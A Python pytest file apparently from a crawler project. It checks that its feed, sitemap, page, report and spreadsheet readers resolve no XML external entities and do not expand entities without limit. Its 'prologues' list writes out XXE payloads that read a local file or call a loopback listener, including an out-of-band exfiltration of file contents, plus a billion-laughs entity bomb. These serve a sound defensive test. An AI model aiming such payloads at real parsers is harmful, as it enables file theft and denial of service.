"""No document reads a file of ours, asks another host or swells, whatever its entities say (A15)."""

import io
import socketserver
import threading
import time
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from crawler.discovery.feeds import read_feed
from crawler.discovery.listings import Listing, read_listing
from crawler.discovery.sitemaps import read_sitemap
from crawler.extract.html import read_page
from crawler.extract.tables import read
from crawler.reports.reading import document_of
from storage.errors import OnRecordError

HOME = "https://paper.example/"
MARK = "the-file-was-read"
SHEETS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELATED = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKED = "http://schemas.openxmlformats.org/package/2006/"
MANIFEST = '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>'
WORKBOOK = {
    "[Content_Types].xml": f'<Types xmlns="{PACKED}content-types"/>',
    "_rels/.rels": f'<Relationships xmlns="{PACKED}relationships"><Relationship Id="r1"'
    f' Type="{RELATED}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
    "xl/workbook.xml": f'<workbook xmlns="{SHEETS}" xmlns:r="{RELATED}"><sheets>'
    '<sheet name="a" sheetId="1" r:id="r1"/></sheets></workbook>',
    "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{PACKED}relationships"><Relationship Id="r1"'
    f' Type="{RELATED}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
}


@pytest.fixture
def heard() -> Iterator[tuple[str, list[bytes]]]:
    """The address of a listener on loopback, and what it was sent."""
    calls: list[bytes] = []

    class Ear(socketserver.StreamRequestHandler):
        def handle(self) -> None:
            calls.append(self.rfile.readline())

    with socketserver.ThreadingTCPServer(("127.0.0.1", 0), Ear) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_address[1]}", calls
        server.shutdown()


def prologues(file: Path, address: str) -> list[str]:
    """Ways in which a document declares what lies elsewhere, or swells; ``&e;`` names it."""
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return [
        f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{file}">]>',
        f'<!DOCTYPE x [<!ENTITY e SYSTEM "{file}">]>',
        f'<!DOCTYPE x [<!ENTITY e SYSTEM "{address}/e">]>',
        f'<!DOCTYPE x [<!ENTITY e PUBLIC "a" "{address}/e">]>',
        f'<!DOCTYPE x SYSTEM "{address}/x.dtd">',
        f'<!DOCTYPE x SYSTEM "file://{file}">',
        f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{address}/p.dtd"> %p;]>',
        f'<!DOCTYPE x [<!ENTITY % f SYSTEM "file://{file}"><!ENTITY % d "<!ENTITY e SYSTEM \'{address}/?%f;\'>">%d;]>',
        f'<!DOCTYPE x [<!ENTITY l0 "ha">{laughs}<!ENTITY e "&l9;">]>',
        f'<!DOCTYPE x [<!ENTITY e "{"A" * 50_000}">]>',
    ]


def _zipped(parts: dict[str, str]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        for name, content in parts.items():
            made.writestr(name, content)
    return out.getvalue()


def _xlsx(prologue: str, said: str) -> bytes:
    row = f'<row r="1"><c r="A1" t="inlineStr"><is><t>{said}</t></is></c></row>'
    return _zipped(
        WORKBOOK
        | {
            "xl/worksheets/sheet1.xml": f"{prologue}<worksheet xmlns='{SHEETS}'><sheetData>{row}</sheetData></worksheet>"
        }
    )


def _ods(prologue: str, said: str) -> bytes:
    names = " ".join(
        f'xmlns:{short}="urn:oasis:names:tc:opendocument:xmlns:{short}:1.0"'
        for short in ("office", "table", "text")
    )
    cell = f'<table:table-cell office:value-type="string"><text:p>{said}</text:p></table:table-cell>'
    body = f'<office:body><office:spreadsheet><table:table table:name="a"><table:table-row>{cell}</table:table-row>'
    body += "</table:table></office:spreadsheet></office:body>"
    content = f"{prologue}<office:document-content {names}>{body}</office:document-content>"
    return _zipped(
        {
            "mimetype": "application/vnd.oasis.opendocument.spreadsheet",
            "content.xml": content,
            "META-INF/manifest.xml": MANIFEST,
        }
    )


READERS: dict[str, Callable[[str, str], object]] = {
    "rss": lambda p, e: read_feed(
        f"{p}<rss version='2.0'><channel><item><title>a {e}</title><link>{HOME}1</link></item></channel></rss>".encode(),
        HOME,
    ),
    "atom": lambda p, e: read_feed(
        f"{p}<feed xmlns='http://www.w3.org/2005/Atom'><entry><title>{e}</title><id>{HOME}1</id></entry></feed>".encode(),
        HOME,
    ),
    "sitemap": lambda p, e: read_sitemap(
        f"{p}<urlset><url><loc>{HOME}{e}</loc></url></urlset>".encode(), HOME
    ),
    "listing": lambda p, e: read_listing(
        f"{p}<html><a href='/1'>{e}</a></html>".encode(), HOME, Listing(links="a")
    ),
    "page": lambda p, e: read_page(
        f"{p}<html><body><h1>{e}</h1><article><p>{'A long enough story. ' * 30} {e}</p></article>".encode(),
        HOME,
    ),
    "xhtml": lambda p, e: read_page(
        f"<?xml version='1.0'?>{p}<html xmlns='http://www.w3.org/1999/xhtml'><body><p>{'A story. ' * 80}{e}</p></body></html>".encode(),
        HOME,
        "application/xhtml+xml",
    ),
    "report": lambda p, e: document_of(
        f"{p}<html><body><h1>Report {e}</h1><p>{e}</p></body></html>".encode()
    ),
    "xlsx": lambda p, e: read("a.xlsx", _xlsx(p, e)),
    "ods": lambda p, e: read("a.ods", _ods(p, e)),
}


@pytest.mark.parametrize("kind", READERS)
def test_no_entity_reaches_a_file_or_a_host_or_swells(
    kind: str, tmp_path: Path, heard: tuple[str, list[bytes]]
) -> None:
    address, calls = heard
    (tmp_path / "secret").write_text(MARK)
    for prologue in prologues(tmp_path / "secret", address):
        entities = "&e;" * (2_000 if "A" * 50 in prologue else 1)
        begin = time.process_time()
        try:
            told = str(READERS[kind](prologue, entities))
        except (
            OnRecordError,
            ValueError,
            OSError,
        ) as refused:  # a fault of the reader's, which the pool tells
            told = str(refused)
        assert time.process_time() - begin < 1, prologue
        assert MARK not in told, prologue
        assert len(told) < 3_000_000, prologue
    assert calls == []


def test_the_readers_read_what_is_plain() -> None:
    for kind, reader in READERS.items():
        assert "1" in str(reader("", "plain 1")) or "plain" in str(reader("", "plain 1")), kind
